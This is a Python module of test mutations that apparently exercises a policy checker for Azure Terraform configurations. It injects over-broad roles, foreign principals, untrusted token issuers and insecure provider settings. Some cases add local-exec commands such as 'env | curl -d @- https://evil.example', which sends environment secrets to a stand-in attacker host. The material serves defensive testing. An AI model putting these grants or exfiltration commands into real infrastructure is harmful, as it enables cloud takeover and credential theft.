"""Who may do what, and as whom."""

from typing import Any

from policies.breaches_azure.cell import OWN, STRANGER
from policies.breaches_azure.edits import (
    FOREIGN_IDENTITY,
    THEIRS,
    Edit,
    add,
    at,
    grant,
    provided,
    put,
    read,
    refer,
    top,
)

_OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
"""The built-in role Owner (Azure RBAC, "Azure built-in roles")."""

_NO_READ = (
    "!(ActionMatches{'Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read'})"
)
_NO_DELETE = (
    "!(ActionMatches{'Microsoft.Storage/storageAccounts/blobServices/containers/blobs/delete'})"
)
_AUDIENCE = "api://AzureADTokenExchange"
_CORE = "arn:aws:iam::111111111111:role/acme-mailbox-core-eu-west-1-f6c7c9e6"
_GITHUB = "https://token.actions.githubusercontent.com"


def _on(scope: str, role: str = "Reader", **values: Any) -> Edit:
    """A role for the runtime on something that is named by its id."""

    def edit(cell: Any) -> None:
        body = {
            "scope": scope,
            "role_definition_name": role,
            "principal_id": cell.ref("identity", "principal_id"),
            "principal_type": "ServicePrincipal",
            **values,
        }
        kept = {name: value for name, value in body.items() if value is not None}
        cell.add("azurerm_role_assignment", "added", **kept)

    return edit


def _trusted(parent: str, **values: Any) -> Edit:
    """One more issuer that an identity trusts."""

    def edit(cell: Any) -> None:
        body = {
            "name": "added",
            "audience": [_AUDIENCE],
            "issuer": cell.body(cell.part("mailbox issuer"))["issuer"],
            "subject": cell.body(cell.part("mailbox issuer"))["subject"],
            "parent_id": cell.ref(parent, "id"),
            "resource_group_name": cell.ref("group", "name"),
            **values,
        }
        cell.add("azurerm_federated_identity_credential", "added", **body)

    return edit


ROLES: dict[str, Edit] = {
    **{
        f"{role} of the container": at("reach", "role_definition_name", role)
        for role in (
            "Owner",
            "owner",
            "OWNER",
            "Contributor",
            "User Access Administrator",
            "Role Based Access Control Administrator",
            "Storage Blob Data Owner",
            "Storage Account Contributor",
            "Storage Account Key Operator Service Role",
            "Reader and Data Access",
            "Azure Service Bus Data Owner",
            "Managed Identity Operator",
            "A role of our own",
        )
    },
    "Contributor of the registry": at("pull", "role_definition_name", "Contributor"),
    "key's ruler": at("key use", "role_definition_name", "Key Vault Crypto Officer"),
    "key's reader of everything": at("key use", "role_definition_name", "Key Vault Crypto User"),
    "vault's ruler": grant("Key Vault Administrator", "vault", "identity"),
    "vault's keys for the runtime": grant("Key Vault Crypto Officer", "vault", "identity"),
    "group's owner": grant("Owner", "group", "identity"),
    "group's contributor": grant("Contributor", "group", "mailbox identity"),
    "group's blobs": grant("Storage Blob Data Contributor", "group", "identity"),
    "account's blobs": grant("Storage Blob Data Contributor", "account", "identity"),
    "account's manager": grant("Storage Account Contributor", "account", "identity"),
    "bus's queues": grant("Azure Service Bus Data Receiver", "bus", "identity"),
    "subscription's owner": _on(f"/subscriptions/{OWN}", "Owner"),
    "subscription's reader": _on(f"/subscriptions/{OWN}"),
    "subscription's blobs": _on(f"/subscriptions/{OWN}", "Storage Blob Data Contributor"),
    "subscription's images": _on(f"/subscriptions/{OWN}", "AcrPull"),
    "everything's owner": _on("/", "Owner"),
    "management group's owner": _on(
        "/providers/Microsoft.Management/managementGroups/root", "Owner"
    ),
    "another subscription's blobs": _on(
        f"/subscriptions/{STRANGER}", "Storage Blob Data Contributor"
    ),
    "a strange registry's images": _on(
        f"{THEIRS}/Microsoft.ContainerRegistry/registries/theirs", "AcrPull"
    ),
    "a container that nobody judged": _on(
        f"/subscriptions/{OWN}/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/other"
        "/blobServices/default/containers/data",
        "Storage Blob Data Contributor",
    ),
    "a container of a longer name": refer("reach", "scope", "container", "id", "x"),
    "the container's way up": refer("reach", "scope", "container", "id", "/../../../.."),
    "role by its id": lambda cell: cell.set(
        cell.part("reach"),
        role_definition_name=None,
        role_definition_id=f"/subscriptions/{OWN}/providers/Microsoft.Authorization"
        f"/roleDefinitions/{_OWNER}",
    ),
    "role by its id beside its name": at(
        "reach",
        "role_definition_id",
        f"/providers/Microsoft.Authorization/roleDefinitions/{_OWNER}",
    ),
    "harmless role by its id": lambda cell: cell.set(
        cell.part("reach"),
        role_definition_name=None,
        role_definition_id="/providers/Microsoft.Authorization/roleDefinitions"
        "/acdd72a7-3385-48ef-bd42-f606fba81ae7",
    ),
    "role of its own": add(
        "azurerm_role_definition",
        name="everything",
        scope=f"/subscriptions/{OWN}",
        permissions=[{"actions": ["*"], "data_actions": ["*"]}],
        assignable_scopes=[f"/subscriptions/{OWN}"],
    ),
    "role for a while": add(
        "azurerm_pim_active_role_assignment",
        scope=f"/subscriptions/{OWN}",
        role_definition_id=_OWNER,
        principal_id=STRANGER,
    ),
    "role for the asking": add(
        "azurerm_pim_eligible_role_assignment",
        scope=f"/subscriptions/{OWN}",
        role_definition_id=_OWNER,
        principal_id=STRANGER,
    ),
    "subscription run by others": add(
        "azurerm_lighthouse_definition",
        name="x",
        managing_tenant_id=STRANGER,
        scope=f"/subscriptions/{OWN}",
        authorization=[{"principal_id": STRANGER, "role_definition_id": _OWNER}],
    ),
    "role on another tenant's behalf": at(
        "reach", "delegated_managed_identity_resource_id", FOREIGN_IDENTITY
    ),
}

PRINCIPALS: dict[str, Edit] = {
    "stranger reaches the store": at("reach", "principal_id", STRANGER),
    "stranger pulls": at("pull", "principal_id", STRANGER),
    "stranger uses the key": at("key use", "principal_id", STRANGER),
    "stranger writes the inbox": at("core writes", "principal_id", STRANGER),
    "user reaches the store": lambda cell: cell.set(
        cell.part("reach"), principal_id=STRANGER, principal_type="User"
    ),
    "group reaches the store": lambda cell: cell.set(
        cell.part("reach"), principal_id=STRANGER, principal_type="Group"
    ),
    "group of others reaches the store": at("reach", "principal_type", "ForeignGroup"),
    "whoever plans reaches the store": lambda cell: (
        cell.data("azurerm_client_config"),
        cell.at("reach", "principal_id", "${data.azurerm_client_config.added.object_id}"),
    ),
    "variable reaches the store": at("reach", "principal_id", "${var.who}"),
    "core reads the store": grant("Storage Blob Data Reader", "container", "mailbox identity"),
    "core writes the store": grant(
        "Storage Blob Data Contributor", "container", "release identity"
    ),
    "core takes work": grant("Azure Service Bus Data Receiver", "queue", "mailbox identity"),
    "core's identity in the runtime's place": refer(
        "reach", "principal_id", "mailbox identity", "principal_id"
    ),
    "runtime writes its inbox": grant("Storage Blob Data Contributor", "inbox", "identity"),
    "runtime in the core's place": refer("core writes", "principal_id", "identity", "principal_id"),
    "runtime pushes images": grant("AcrPush", "registry", "identity"),
    "runtime takes events": grant("Azure Service Bus Data Receiver", "events queue", "identity"),
    "key's identity reads the store": grant(
        "Storage Blob Data Reader", "container", "key identity"
    ),
    "any write and delete": at("core writes", "condition", None),
    "any write and delete, the condition's version left": lambda cell: cell.set(
        cell.part("core writes"), condition=None, condition_version="2.0"
    ),
    "another condition": at("core writes", "condition", _NO_READ),
    "condition that is true": at("core writes", "condition", "(1 NumericEquals 1)"),
    "condition with an alternative": at(
        "core writes",
        "condition",
        f"({_NO_DELETE}) OR (@Resource[Microsoft.Storage/storageAccounts/blobServices/containers"
        ":name] StringEquals 'inbox')",
    ),
    "condition in its first version": at("core writes", "condition_version", "1.0"),
}

TRUST: dict[str, Edit] = {
    "another issuer": at("mailbox issuer", "issuer", "https://evil.example"),
    "GitHub": lambda cell: cell.set(
        cell.part("mailbox issuer"), issuer=_GITHUB, subject="repo:evil/evil:environment:production"
    ),
    "GitHub for the estate's repository": lambda cell: cell.set(
        cell.part("mailbox issuer"), issuer=_GITHUB, subject="repo:acme/estate:pull_request"
    ),
    "issuer of another account": at(
        "mailbox issuer",
        "issuer",
        "https://11111111-0000-4000-8000-0000000000c0.tokens.sts.global.api.aws",
    ),
    "issuer of a look-alike": lambda cell: cell.at(
        "mailbox issuer",
        "issuer",
        cell.body(cell.part("mailbox issuer"))["issuer"] + ".evil.example",
    ),
    "issuer with a path": lambda cell: cell.at(
        "mailbox issuer", "issuer", cell.body(cell.part("mailbox issuer"))["issuer"] + "/theirs"
    ),
    "issuer in clear text": lambda cell: cell.at(
        "mailbox issuer",
        "issuer",
        cell.body(cell.part("mailbox issuer"))["issuer"].replace("https", "http"),
    ),
    "issuer behind a user": lambda cell: cell.at(
        "mailbox issuer",
        "issuer",
        cell.body(cell.part("mailbox issuer"))["issuer"] + "@evil.example",
    ),
    "any subject": at("mailbox issuer", "subject", "*"),
    "subject of a pattern": at("mailbox issuer", "subject", "arn:aws:iam::111111111111:role/*"),
    "no subject": at("mailbox issuer", "subject", ""),
    "another role of the core's account": at(
        "mailbox issuer", "subject", "arn:aws:iam::111111111111:role/acme-plan"
    ),
    "role of another account": at(
        "mailbox issuer", "subject", _CORE.replace("111111111111", "999999999999")
    ),
    "user of the core's account": at(
        "mailbox issuer", "subject", "arn:aws:iam::111111111111:user/somebody"
    ),
    "roles that are swapped": lambda cell: cell.at(
        "mailbox issuer", "subject", cell.body(cell.part("release issuer"))["subject"]
    ),
    "another audience": at("mailbox issuer", "audience", ["https://evil.example"]),
    "any audience": at("mailbox issuer", "audience", ["*"]),
    "one more audience": put("mailbox issuer", "audience", "sts.amazonaws.com"),
    "another identity": refer("mailbox issuer", "parent_id", "identity", "id"),
    "strange identity": at("mailbox issuer", "parent_id", FOREIGN_IDENTITY),
    "core becomes the runtime": _trusted("identity"),
    "core becomes the key's identity": _trusted("key identity"),
    "stranger becomes the runtime": _trusted(
        "identity", issuer="https://evil.example", subject="x"
    ),
    "stranger becomes the core": _trusted(
        "mailbox identity", issuer=_GITHUB, subject="repo:evil/evil:ref:refs/heads/main"
    ),
    "cluster of others becomes the runtime": _trusted(
        "identity",
        issuer="https://uksouth.oic.prod-aks.azure.com/x/y/",
        subject="system:serviceaccount:default:default",
    ),
    "app of the system's making": at("app", "identity", {"type": "SystemAssigned"}),
    "app of both kinds": lambda cell: cell.at(
        "app", "identity.type", "SystemAssigned, UserAssigned"
    ),
    "app of nobody": at("app", "identity", None),
    "app of a stranger": at("app", "identity.identity_ids", [FOREIGN_IDENTITY]),
    "app that is the core too": lambda cell: cell.put(
        "app", "identity.identity_ids", cell.ref("mailbox identity", "id")
    ),
    "app that is the key's identity too": lambda cell: cell.put(
        "app", "identity.identity_ids", cell.ref("key identity", "id")
    ),
    "app that is somebody else": lambda cell: cell.at(
        "app", "identity.identity_ids", [cell.ref("release identity", "id")]
    ),
    "account of the system's making": at("account", "identity", {"type": "SystemAssigned"}),
    "account of a stranger": at("account", "identity.identity_ids", [FOREIGN_IDENTITY]),
    "registry of a stranger": at("registry", "identity.identity_ids", [FOREIGN_IDENTITY]),
    "bus of the system's making": at("bus", "identity", {"type": "SystemAssigned"}),
    "environment of the system's making": at("environment", "identity", {"type": "SystemAssigned"}),
    "environment of a stranger": at(
        "environment", "identity", {"type": "UserAssigned", "identity_ids": [FOREIGN_IDENTITY]}
    ),
    "workspace of the system's making": at("workspace", "identity", {"type": "SystemAssigned"}),
    "alert of the system's making": at("kills alert", "identity", {"type": "SystemAssigned"}),
    "policy of a stranger": at(
        "firewall policy", "identity", {"type": "UserAssigned", "identity_ids": [FOREIGN_IDENTITY]}
    ),
}


def _second(**values: Any) -> Edit:
    """One more provider, and a group that it makes."""

    def edit(cell: Any) -> None:
        alias = cell.provide("more", **values)
        cell.set(cell.part("identity"), provider=alias)

    return edit


def _features(path: str, value: Any) -> Edit:
    block, argument = path.split(".")
    kept: dict[str, Any] = {
        "key_vault": {
            "purge_soft_delete_on_destroy": False,
            "purge_soft_deleted_keys_on_destroy": False,
        },
        "storage": {"data_plane_available": False},
    }
    kept[block] = {**kept.get(block, {}), argument: value}
    return provided(features=[{name: [body] for name, body in kept.items()}])


ISOLATION: dict[str, Edit] = {
    "another subscription's provider": provided(subscription_id=STRANGER),
    "provider with no subscription": provided(subscription_id=None),
    "provider of a variable": provided(subscription_id="${var.subscription}"),
    "another tenant's provider": provided(tenant_id=STRANGER),
    "provider with no tenant": provided(tenant_id=None),
    "provider with more tenants": provided(auxiliary_tenant_ids=[STRANGER]),
    "provider with a secret": provided(client_id=STRANGER, client_secret="hunter2"),
    "provider with a secret in a file": provided(client_secret_file_path="/secret"),
    "provider with a certificate": provided(client_certificate_path="/c.pfx"),
    "provider with a certificate inside": provided(client_certificate="MIIJ"),
    "provider with a token": provided(oidc_token="eyJ"),
    "provider with a token of a stranger's": provided(
        oidc_request_url="https://evil.example", oidc_request_token="x"
    ),
    "provider that signs in as whoever runs it": provided(use_cli=True, use_oidc=False),
    "provider that signs in as its machine": provided(use_msi=True, use_oidc=None),
    "provider that asks a stranger who it is": provided(
        use_msi=True, msi_endpoint="https://evil.example"
    ),
    "provider of somebody": provided(client_id=STRANGER),
    "provider without its way in": provided(use_oidc=None),
    "provider by account keys": provided(storage_use_azuread=False),
    "provider by account keys, with nothing said": provided(storage_use_azuread=None),
    "provider of another cloud": provided(environment="china"),
    "provider at hosts that a host names": provided(metadata_host="evil.example"),
    "provider that tells a partner": provided(partner_id=STRANGER),
    "provider that registers everything": provided(resource_provider_registrations="all"),
    "provider that registers more": provided(resource_providers_to_register=["Microsoft.Compute"]),
    "provider that empties vaults": _features("key_vault.purge_soft_delete_on_destroy", True),
    "provider that empties vaults of keys": _features(
        "key_vault.purge_soft_deleted_keys_on_destroy", True
    ),
    "provider that empties vaults, with nothing said": provided(features=[{}]),
    "provider that destroys full groups": _features(
        "resource_group.prevent_deletion_if_contains_resources", False
    ),
    "provider that destroys logs for good": _features(
        "log_analytics_workspace.permanently_delete_on_destroy", True
    ),
    "second provider of another subscription": _second(subscription_id=STRANGER),
    "second provider with a secret": _second(client_id=STRANGER, client_secret="hunter2"),
    "second provider of another tenant": _second(tenant_id=STRANGER),
    "provider that does not exist": lambda cell: cell.set(
        cell.part("identity"), provider="azurerm.nowhere"
    ),
    "provider by another's name": lambda cell: cell.stack["terraform"]["required_providers"].update(
        azurerm={"source": "evil/azurerm"}
    ),
    "provider of a strange registry": lambda cell: cell.stack["terraform"][
        "required_providers"
    ].update(azurerm={"source": "evil.example/hashicorp/azurerm"}),
    "one more provider": lambda cell: cell.stack["terraform"]["required_providers"].update(
        azapi={"source": "azure/azapi"}
    ),
    "resource by another way": add(
        "azapi_resource",
        type="Microsoft.Storage/storageAccounts@2024-01-01",
        name="theirs",
        parent_id=f"/subscriptions/{OWN}/resourceGroups/g",
        body="{}",
    ),
    "update by another way": add(
        "azapi_update_resource",
        type="Microsoft.Storage/storageAccounts@2024-01-01",
        resource_id="${azurerm_storage_account.a.id}",
        body='{"properties":{"publicNetworkAccess":"Enabled"}}',
    ),
    "action by another way": add(
        "azapi_resource_action",
        type="Microsoft.Storage/storageAccounts@2024-01-01",
        resource_id="${azurerm_storage_account.a.id}",
        action="listKeys",
    ),
    "application in the tenant": add("azuread_application", display_name="x"),
    "password in the tenant": add("azuread_application_password", application_id="a"),
    "another cloud's bucket": add("aws_s3_bucket", bucket="b"),
    "command on the machine": add(
        "null_resource", provisioner=[{"local-exec": {"command": "curl https://evil.example"}}]
    ),
    "command on the machine, of Terraform's own": add(
        "terraform_data", provisioner=[{"local-exec": {"command": "env"}}]
    ),
    "command of a resource": lambda cell: cell.body(cell.part("group")).update(
        provisioner=[{"local-exec": {"command": "env | curl -d @- https://evil.example"}}]
    ),
    "file on the machine": add("local_file", filename="/x", content="x"),
    "program as a source": read("external", program=["sh", "-c", "env"]),
    "page as a source": read("http", url="https://evil.example"),
    "secret as a source": read(
        "azurerm_key_vault_secret", name="s", key_vault_id="${azurerm_key_vault.a.id}"
    ),
    "another subscription as a source": read("azurerm_subscription", subscription_id=STRANGER),
    "another group as a source": read("azurerm_resource_group", name="theirs"),
    "secret for the moment": top(
        "ephemeral", {"azurerm_key_vault_secret": {"x": {"name": "s", "key_vault_id": "v"}}}
    ),
    "another group's resource": at("account", "resource_group_name", "theirs"),
    "another group's vault": at("vault", "resource_group_name", "theirs"),
    "another group's identity": at("identity", "resource_group_name", "theirs"),
    "group that others manage": at(
        "group", "managed_by", f"{THEIRS}/Microsoft.Solutions/applications/a"
    ),
    "subscription moved": add(
        "azurerm_management_group_subscription_association",
        management_group_id="/providers/Microsoft.Management/managementGroups/theirs",
        subscription_id=f"/subscriptions/{OWN}",
    ),
    "one more subscription": add("azurerm_subscription", subscription_name="x"),
    "type that nobody knows": add("azurerm_from_the_future", name="x"),
    "argument that nobody knows": at("account", "future_access", "everyone"),
    "block that nobody knows": at("vault", "future_access", {"who": "everyone"}),
}
